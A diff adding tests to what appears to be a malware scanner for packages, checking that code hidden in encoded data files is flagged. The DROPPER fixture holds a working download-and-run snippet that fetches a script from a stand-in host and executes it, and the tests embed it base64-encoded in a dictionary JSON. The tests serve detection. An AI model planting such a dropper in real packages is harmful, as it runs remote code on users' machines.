@@ -290,3 +290,69 @@ def test_a_pickle_kept_in_the_source_and_unpickled_is_read_as_a_pickle() -> None
         assert "posix.system" in found[0].message or "os.system" in found[0].message
     harmless = pickle.dumps({"a": [1, 2]}, protocol=2)
     assert "PV-PAY-PICKLE" not in ids(run(R, py(f"import pickle\nDEFAULTS = pickle.loads({harmless!r})\n")))
+
+
+DROPPER = (
+    "import os, subprocess, tempfile, urllib.request\n"
+    "p = os.path.join(tempfile.gettempdir(), 'u.py')\n"
+    "open(p, 'wb').write(urllib.request.urlopen('http://203.0.113.7/s').read())\n"
+    "subprocess.Popen(['python', p], start_new_session=True)\n"
+)
+TABLE = "import math\n\n\ndef area(r):\n    return math.pi * r * r\n" * 3
+
+
+def _dictionary(payload: str, *, squeeze: bool = False) -> str:
+    """A word-frequency JSON with one extra key holding ``payload`` base64-encoded."""
+    import base64
+    import json
+
+    raw = payload.encode()
+    encoded = base64.b64encode(zlib.compress(raw) if squeeze else raw).decode()
+    words = {f"word{i}": i for i in range(40)}
+    return json.dumps({**words, "spellchecker": encoded}, indent=1)
+
+
+def test_a_program_hidden_in_a_data_file_is_read_as_code() -> None:
+    import gzip
+
+    plain = blob("pkg/resources/eu.json", _dictionary(DROPPER).encode(), FileKind.TEXT)
+    found = [f for f in run(R, plain) if f.rule == "PV-PAY-HIDDEN-CODE"]
+    assert [f.severity for f in found] == [Severity.CRITICAL]
+    assert found[0].line == 42  # the key's line in the JSON
+    assert "PV-DL-002" in found[0].message
+    assert found[0].evidence is not None
+    assert "subprocess.Popen" in found[0].evidence
+    # zlib inside the base64, and the whole file gzipped (spellcheckerpy's eu.json.gz)
+    packed = blob("pkg/resources/eu.json.gz", gzip.compress(_dictionary(DROPPER, squeeze=True).encode()))
+    found = [f for f in run(R, packed) if f.rule == "PV-PAY-HIDDEN-CODE"]
+    assert [f.severity for f in found] == [Severity.CRITICAL]
+    assert found[0].line is None
+    assert "compressed" in found[0].message
+    # hex digits (also base64 letters) are read as hex
+    spelled = blob("pkg/data/x.txt", ("key = " + DROPPER.encode().hex() + "\n").encode(), FileKind.TEXT)
+    assert [f.severity for f in run(R, spelled) if f.rule == "PV-PAY-HIDDEN-CODE"] == [Severity.CRITICAL]
+
+
+def test_harmless_encoded_code_images_and_broken_streams_in_data_are_not_reported() -> None:
+    import base64
+    import gzip
+    import json
+
+    icon = base64.b64encode(png(b"\0" * 200)).decode()
+    cases = [
+        blob("pkg/data/table.json", _dictionary(TABLE).encode(), FileKind.TEXT),  # code, nothing risky
+        blob("pkg/data/icons.json", json.dumps({"icon": icon}).encode()),
+        blob("pkg/data/words.txt", ("A" * 400 + "\n").encode(), FileKind.TEXT),  # decodes to zeros
+        blob("pkg/data/broken.gz", b"\x1f\x8b" + b"\0" * 300),  # a gzip header, no stream
+        blob("pkg/data/huge.json.gz", gzip.compress(b" " * (9 << 20))),  # grows past the bound
+    ]
+    for file in cases:
+        assert "PV-PAY-HIDDEN-CODE" not in ids(run(R, file)), file.path
+
+
+def test_base64_runs_are_found_whole_with_their_padding() -> None:
+    long_run, short = b"Q" * 100 + b"==", b"R" * 95
+    data = b'{"a": "' + long_run + b'", "b": "' + short + b'"}\n' + b"x/+9" * 30
+    assert list(payloads._runs(data)) == [(7, long_run), (len(data) - 120, b"x/+9" * 30)]
+    assert list(payloads._runs(b"S" * 96 + b"===")) == [(0, b"S" * 96 + b"==")]
+    assert list(payloads._runs(short)) == []
